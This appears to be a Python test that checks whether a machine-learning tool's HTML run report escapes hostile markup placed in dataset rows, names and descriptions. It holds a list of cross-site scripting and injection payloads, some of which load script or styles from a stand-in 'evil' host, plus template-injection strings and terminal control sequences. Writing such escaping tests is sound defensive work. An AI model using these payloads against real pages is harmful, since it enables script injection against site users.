"""Markup in texts, names and answers, and what of it is left in a page."""

import json
import os
from html.parser import HTMLParser

from running import run

MARKS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "</script><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<style>@import 'http://evil'</style>",
    "<link rel=stylesheet href=http://evil>", "<meta http-equiv=refresh content='0;url=http://evil'>", "<base href=http://evil>", "<object data=x>",
    "<embed src=x>", "<form action=http://evil><input type=submit>", "<math><mi xlink:href=javascript:alert(1)>", "<template><script>x</script></template>",
    "<!--", "-->", "<![CDATA[<script>alert(1)</script>]]>", "</title><script>x</script>", "</style><script>x</script>", "</textarea><script>x</script>",
    "</details></table><script>x</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus '", "` onload=alert(1)", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<ScRiPt>alert(1)</sCrIpT>", "<<script>script>x<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e",
    "{{ 7 * 7 }}", "${7*7}", "<%= 7 * 7 %>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "\u202e<script>\u202c", "\x1b[2J\x1b]0;x\x07",
    "<video><source onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<input onfocus=alert(1) autofocus>",
    "<img srcset='http://evil/x 1x'>", "<p style='background:url(http://evil)'>", "<use href='http://evil#x'/>", "<foreignObject><script>x</script></foreignObject>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<script src=http://evil/x.js></script>", "<svg><animate onbegin=alert(1) attributeName=x>",
]
PLAIN = "plain words"


class Skeleton(HTMLParser):
    """The elements of a page that run or fetch, and all attributes that could."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = {}

    def handle_starttag(self, tag, attributes):
        names = {name for name, value in attributes if name.startswith("on") or leads_out(name, value)}
        for key in [tag, *(f"{tag}@{name}" for name in names)]:
            self.elements[key] = self.elements.get(key, 0) + 1


def leads_out(name, value):
    return name in ("src", "href", "srcset", "data", "action", "xlink:href", "style") and any(word in (value or "") for word in ("javascript:", "http:", "data:text", "url("))


def skeleton(path):
    with open(path, encoding="utf-8") as file:
        text = file.read()
    parser = Skeleton()
    parser.feed(text)
    risky = ("script", "iframe", "object", "embed", "link", "base", "form", "img", "video", "meta", "style", "template", "noscript", "math")
    return {key: count for key, count in parser.elements.items() if key in risky or "@" in key}


def attack(place, tally, tries, draw):
    expected, said = page(place, PLAIN, "plain")
    assert expected is not None, said
    for number, mark in enumerate(MARKS[:tries]):
        if tally.is_over():
            break
        found, outcome = page(place, mark, f"marked-{number}")
        problem = outcome.problem()
        if problem is None and found is None:
            problem = None if outcome.code == 2 else "no page"
        elif problem is None and found != expected:
            problem = f"the page has other elements: {found} and not {expected}"
        if problem is None and any(character in outcome.said for character in "\x1b\x07\u202e"):
            problem = "control characters are shown"
        tally.add(repr(mark), problem)


def page(place, mark, name):
    """A run whose rows, labels, notes and names hold a mark; its page, by what runs or fetches in it."""
    rows = [{"prompt": f"{mark} {n}", "chosen": f"yes {mark}", "rejected": f"no {mark}", "id": f"{mark}{n}", "label": mark} for n in range(12)]
    place.write(f"{name}.jsonl", "\n".join(json.dumps(row) for row in rows))
    text = json.dumps(mark)
    recipe = f"""name = "{name}"
description = {text}
model = "./model"
preferences = "{name}.jsonl"
held_out = 0.5

[[stage]]
kind = "measure"
name = "before"
factors = {{ note = {text} }}
tasks = [{{ task = "preference", data = "preferences:held_out", name = "marked" }}, {{ task = "refusal", data = "{name}.jsonl", max_new_tokens = 4 }}]

[[stage]]
kind = "train"
name = "dpo"
method = "dpo"
data = "preferences:train"
settings = {{ max_steps = 1, sample_steps = 1, sample_prompts = 2, sample_max_new_tokens = 4, preflight = "warn", boundary = "separate" }}

[[stage]]
kind = "measure"
name = "after"
factors = {{ note = {text} }}

[[stage]]
kind = "compare"
name = "compare"
before = "before"
after = "after"
"""
    place.write(f"{name}.toml", recipe)
    outcome = run([place.groma, "run", f"{name}.toml"], place.root, seconds=60)
    path = place.path("runs", name, "report.html")
    return (skeleton(path) if os.path.exists(path) else None), outcome
